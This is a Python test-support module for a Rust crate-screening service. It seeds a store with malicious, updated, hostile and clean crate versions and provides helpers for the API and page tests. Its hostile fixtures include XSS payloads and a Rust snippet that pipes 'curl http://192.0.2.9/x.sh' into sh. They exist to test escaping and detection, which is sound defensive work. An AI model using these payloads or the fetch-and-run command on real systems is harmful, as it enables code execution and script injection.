"""A store seeded as the service fills it (events recorded, versions screened, kept
archives), and helpers the API, page and browser tests share."""

from __future__ import annotations

import datetime as dt
import re
import shutil
from collections.abc import Mapping
from pathlib import Path
from typing import Any, NamedTuple

from cratewatch.service.model import Published, Risk, Role, Screening, Signal, VersionKey
from cratewatch.service.screening import screen_version
from cratewatch.service.store import Store
from cratewatch.service.view import InMemoryView, VersionRecord
from cratewatch.service.worker import crate_file
from tests.service.support import (
    INCIDENTS,
    NETWORK_BUILD_RS,
    T0,
    manifest,
    pack,
    pack_directory,
    simple_crate,
)

# What a hostile crate puts where the page shows text.
SCRIPT = "<script>alert(1)</script>"
IMG = '"><img src=x onerror=alert(2)>'
JS_URL = "javascript:alert(3)"
# no "/": a name with one could not be a path segment of the page's URLs at all
HOSTILE_NAME = 'evil"><img src=x onerror=alert(1)><script>alert(1)'

HOSTILE_FILE = f"src/{IMG}.rs"

HOSTILE_LIB = (
    b"pub fn run() {\n"
    b"    // </pre><script>alert(4)</script>\n"
    b'    let _ = std::process::Command::new("sh").arg("-c")'
    b'.arg("curl http://192.0.2.9/x.sh | sh <script>alert(5)</script>").status();\n'
    b"}\n"
)


class Tokens(NamedTuple):
    reader: str
    reviewer: str
    admin: str


class Seeded(NamedTuple):
    malicious: VersionKey  # an incident sample, screened: needs review
    update: VersionKey  # util 0.3.2: a build script added since 0.3.1
    previous: VersionKey  # util 0.3.1
    hostile: VersionKey  # evil 1.0.0: a hostile file name, snippet and manifest
    hostile_name: VersionKey  # a name with markup in it
    clean: VersionKey


def make_tokens(store: Store) -> Tokens:
    return Tokens(
        store.create_token("rita-reader", Role.READER).secret,
        store.create_token("vera-reviewer", Role.REVIEWER).secret,
        store.create_token("adam-admin", Role.ADMIN).secret,
    )


def _keep(
    store: Store,
    crate_dir: Path,
    path: Path,
    name: str,
    version: str,
    when: dt.datetime,
    view: InMemoryView,
    screen: bool = True,
) -> VersionKey:
    """Record the event, screen the archive, save the screening and keep the archive as
    the service's worker does."""
    screening = screen_version(path, name, version, None, view, now=when, published=when)
    key = VersionKey(name, version, screening.checksum)
    store.record_event(Published(name, version, key.checksum, "git-index", when, when))
    kept = crate_file(crate_dir, key)
    kept.parent.mkdir(parents=True, exist_ok=True)
    shutil.copyfile(path, kept)
    if screen:
        store.save_screening(screening)
    return key


def seed(store: Store, crate_dir: Path, work: Path) -> Seeded:
    """Five versions: an incident sample (critical), an update adding a network build
    script over a kept previous version, a hostile crate, a clean one."""
    empty = InMemoryView()
    sample, name, version = pack_directory(INCIDENTS / "telegram-build-script", work / "sample")
    malicious = _keep(store, crate_dir, sample, name, version, T0, empty)

    old = simple_crate(work / "v1", "util", "0.3.1")
    previous = _keep(store, crate_dir, old, "util", "0.3.1", T0 + dt.timedelta(hours=1), empty)
    new = simple_crate(work / "v2", "util", "0.3.2", files={"build.rs": NETWORK_BUILD_RS})
    view = InMemoryView({"util": [VersionRecord("0.3.1", T0 - dt.timedelta(days=400), old)]})
    update = _keep(store, crate_dir, new, "util", "0.3.2", T0 + dt.timedelta(hours=2), view)

    hostile_files = {
        "Cargo.toml": manifest(
            "evil",
            "1.0.0",
            # TOML literal strings: the markup's double quotes stay as they are
            f"description = '{IMG} {SCRIPT}'\nhomepage = '{JS_URL}'\nrepository = '{JS_URL}'\n",
        ),
        "src/lib.rs": b"pub mod x;\n",
        HOSTILE_FILE: HOSTILE_LIB,
    }
    archive = pack(work / "hostile" / "evil-1.0.0.crate", hostile_files)
    when = T0 + dt.timedelta(hours=3)
    hostile = _keep(store, crate_dir, archive, "evil", "1.0.0", when, empty)

    # A name a registry would refuse (a feed may still report one): shown as text, and
    # never used as a file name.
    named = VersionKey(HOSTILE_NAME, "6.6.6", "ab" * 32)
    store.record_event(Published(named.name, named.version, named.checksum, "rss", when))
    store.save_screening(typosquat_screening(named, when, imitates=IMG))

    plain = simple_crate(work / "clean", "plain", "1.2.3")
    clean = _keep(store, crate_dir, plain, "plain", "1.2.3", T0 + dt.timedelta(hours=4), empty)
    return Seeded(malicious, update, previous, hostile, named, clean)


def typosquat_screening(key: VersionKey, when: dt.datetime, imitates: str = "serde") -> Screening:
    return Screening(
        name=key.name,
        version=key.version,
        checksum=key.checksum,
        risk=Risk.HIGH,
        signals=(
            Signal("typosquat", Risk.HIGH, f"the name {key.name} imitates {imitates} (x, score 1)"),
        ),
        scan=None,
        diff=None,
        screened=when,
        rules_version="test-rules",
    )


def form_token(html: str, action: str | None = None) -> str:
    """The form token of the form posting to ``action`` (default: the first form)."""
    if action is not None:
        html = html[html.index(f'action="{action}"') :]
    found = re.search(r'name="csrf" value="([^"]*)"', html)
    assert found is not None, "no form token in the page"
    return found.group(1)


def json_of(response: Any) -> Mapping[str, Any]:
    data = response.json()
    assert isinstance(data, dict)
    return data
